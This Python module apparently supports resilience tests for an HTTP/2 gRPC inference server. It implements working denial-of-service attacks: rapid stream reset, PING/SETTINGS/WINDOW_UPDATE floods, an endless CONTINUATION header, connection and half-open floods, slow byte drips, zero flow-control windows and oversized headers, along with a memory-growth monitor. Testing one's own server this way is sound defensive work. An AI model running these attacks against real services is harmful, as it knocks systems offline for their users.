# SPDX-License-Identifier: Apache-2.0
"""What clients do that mean ill, in plain HTTP/2: each attack goes on until it has sent its fill or is thrown out."""
import contextlib
import pathlib
import socket
import struct
import threading
import time

from http2 import (DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection,
                   frame, literal)

CONTINUATION = 9
CANCEL = 8
GENERATE = "/millrace.v1.InferenceService/Generate"
GET_MODEL = "/millrace.v1.InferenceService/GetModel"
WATCH = "/grpc.health.v1.Health/Watch"
CHUNK = 1 << 16
THROWN_OUT = (EOFError, ConnectionError, TimeoutError)


def headers(address, path=GENERATE, more=()):
    return b"".join(literal(*pair) for pair in [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address),
        ("te", "trailers"), ("content-type", "application/grpc"), *more])


def integer(prefix_bits, value):
    """An HPACK integer (RFC 7541, 5.1) of which the first byte has nothing else."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


class Attacker(Connection):
    """Reads whatever comes, in a thread, so that the server is never held up by it."""

    def __init__(self, address, settings=b"", reads=True, speaks=True, source=None):
        if speaks:
            super().__init__(address, settings, source)
        else:
            host, port = address.rsplit(":", 1)
            self.socket = socket.create_connection((host, int(port)), timeout=60)
            self.socket.sendall(b"PRI * HTTP/2.0\r\n")
        self.over = threading.Event()
        self.received = b""
        self.next_stream = 1
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        try:
            while part := self.socket.recv(CHUNK):
                self.received = (self.received + part)[-CHUNK:]
        except OSError:
            pass
        self.over.set()

    def open(self, count, path=GENERATE, after=b"", flags=END_HEADERS):
        """Calls with headers only, each followed by the frame that `after` makes of its number."""
        block, out = headers(self.address, path), []
        for _ in range(count):
            out.append(frame(HEADERS, flags, self.next_stream, block))
            if after:
                out.append(after(self.next_stream))
            self.next_stream += 2
        self.socket.sendall(b"".join(out))

    def send_until_thrown_out(self, data, most, stop=None):
        """Bytes that went out before the end, or `most`."""
        sent = 0
        try:
            while sent < most and not (stop and stop.is_set()):
                self.socket.sendall(data)
                sent += len(data)
        except THROWN_OUT:
            pass
        return sent

    def close(self):
        self.socket.close()


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def rapid_reset(address, most, stop=None):
    """Calls opened and given up at once; how many were sent."""
    attacker, sent = Attacker(address), 0
    try:
        while sent < most and not (stop and stop.is_set()):
            attacker.open(100, after=reset)
            sent += 100
    except THROWN_OUT:
        pass
    attacker.close()
    return sent


def flood(kind, payload):
    """An attack of nothing but this frame of the connection's own; how many were sent."""
    one = frame(kind, 0, 0, payload)
    data = one * (CHUNK // len(one))

    def attack(address, most, stop=None):
        attacker = Attacker(address)
        sent = attacker.send_until_thrown_out(data, most * len(one), stop)
        attacker.close()
        return sent // len(one)
    return attack


ping_flood = flood(PING, b"12345678")
settings_flood = flood(SETTINGS, b"")
window_flood = flood(WINDOW_UPDATE, struct.pack(">I", 1))


def flood_between_calls(address, most, stop=None):
    """SETTINGS frames between calls that bring nothing, headers alone or given up; bytes that were sent."""
    attacker, sent = Attacker(address), 0
    data = frame(SETTINGS, 0, 0, b"") * (CHUNK // 9)
    try:
        while sent < most and not (stop and stop.is_set()):
            attacker.open(1, GET_MODEL, flags=END_HEADERS | END_STREAM)
            attacker.open(1, after=reset)
            for _ in range(16):
                attacker.socket.sendall(data)
                sent += len(data)
    except THROWN_OUT:
        pass
    attacker.close()
    return sent


def continuation_flood(address, most, stop=None):
    """One header whose value is announced as 256 MiB and goes on and on; bytes that were sent."""
    attacker = Attacker(address)
    begun = headers(address) + b"\0" + integer(7, 1) + b"a" + integer(7, 1 << 28)
    with contextlib.suppress(*THROWN_OUT):
        attacker.socket.sendall(frame(HEADERS, 0, 1, begun))
    sent = attacker.send_until_thrown_out(frame(CONTINUATION, 0, 1, b"x" * 16384) * 4, most, stop)
    attacker.close()
    return sent


def connection_flood(address, most, stop=None):
    """Connections that say nothing, opened as fast as they are closed; how many were made."""
    host, port = address.rsplit(":", 1)
    made, held = 0, []
    while made < most and not (stop and stop.is_set()):
        try:
            held.append(socket.create_connection((host, int(port)), timeout=5))
        except OSError:
            continue
        made += 1
        if len(held) > 200:
            held.pop(0).close()
    for one in held:
        one.close()
    return made


def half_open(address, most, stop=None):
    """Connections that begin to speak HTTP/2 and stop, in place of those that were closed; how many were made."""
    made, held = 0, []
    while made < most and not (stop and stop.is_set()):
        held = [one for one in held if not one.over.is_set()]
        if len(held) < 200:
            with contextlib.suppress(*THROWN_OUT):
                held.append(Attacker(address, speaks=False))
                made += 1
        else:
            time.sleep(0.01)
    for one in held:
        one.close()
    return made


def drips(address, most, stop=None):
    """Fifty header blocks and fifty requests that come a byte at a time; bytes that were sent."""
    def begin(number):
        attacker = Attacker(address)
        ends = number % 2 == 0
        attacker.socket.sendall(frame(HEADERS, END_HEADERS if ends else 0, 1, headers(address)))
        attacker.drip = frame(DATA, 0, 1, b"\0") if ends else frame(CONTINUATION, 0, 1, b"\x88")
        return attacker

    sent, held = 0, {}
    while sent < most and not (stop and stop.is_set()):
        for number in range(100):
            with contextlib.suppress(*THROWN_OUT):
                if number not in held or held[number].over.is_set():
                    held[number] = begin(number)
                held[number].socket.sendall(held[number].drip)
                sent += 1
        time.sleep(0.05)
    for one in held.values():
        one.close()
    return sent


def zero_windows(address, most, stop=None):
    """Calls whose answers may not be sent; how many were made."""
    sent, attacker = 0, None
    while sent < most and not (stop and stop.is_set()):
        with contextlib.suppress(*THROWN_OUT):
            if attacker is None or attacker.over.is_set():
                attacker = Attacker(address, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
            attacker.open(20, GET_MODEL, lambda stream: frame(DATA, END_STREAM, stream, b"\0\0\0\0\0"))
            sent += 20
        time.sleep(0.01)
    attacker.close()
    return sent


def huge_headers(address, most, stop=None):
    """Calls with more headers than may be; how many were made."""
    block = headers(address, more=[(f"x-{i}", "y" * 100) for i in range(110)])
    sent = 0
    while sent < most and not (stop and stop.is_set()):
        with contextlib.suppress(*THROWN_OUT):
            attacker = Attacker(address)
            for stream in range(1, 200, 2):
                attacker.socket.sendall(frame(HEADERS, END_HEADERS, stream, block))
                sent += 1
        attacker.close()
    return sent


def body_drip(address, stop, message_bytes=100000):
    """A request that comes a byte at a time; seconds until the call was ended."""
    attacker, began = Attacker(address, reads=False), time.monotonic()
    attacker.socket.sendall(frame(HEADERS, END_HEADERS, 1, headers(address))
                            + frame(DATA, 0, 1, b"\0" + struct.pack(">I", message_bytes)))
    attacker.socket.settimeout(0.1)
    block = None
    try:
        while not stop.is_set() and block is None:
            attacker.socket.sendall(frame(DATA, 0, 1, b"x"))
            try:
                kind, flags, payload = attacker.next_frame()
            except TimeoutError:
                continue
            attacker.answer(kind, flags, payload)
            block = payload if kind == HEADERS and flags & END_STREAM else None
    except THROWN_OUT:
        pass
    attacker.close()
    return time.monotonic() - began, block


def resident_bytes(pid):
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no VmRSS")


class Peak:
    """The most memory that the process had at any look, in bytes above what it had before."""

    def __init__(self, pid):
        self.pid = pid
        self.stop = threading.Event()
        self.before = self.most = resident_bytes(pid)
        self.thread = threading.Thread(target=self._look)

    def _look(self):
        while not self.stop.wait(0.02):
            self.most = max(self.most, resident_bytes(self.pid))

    @property
    def growth(self):
        return self.most - self.before

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.stop.set()
        self.thread.join()
        self.most = max(self.most, resident_bytes(self.pid))
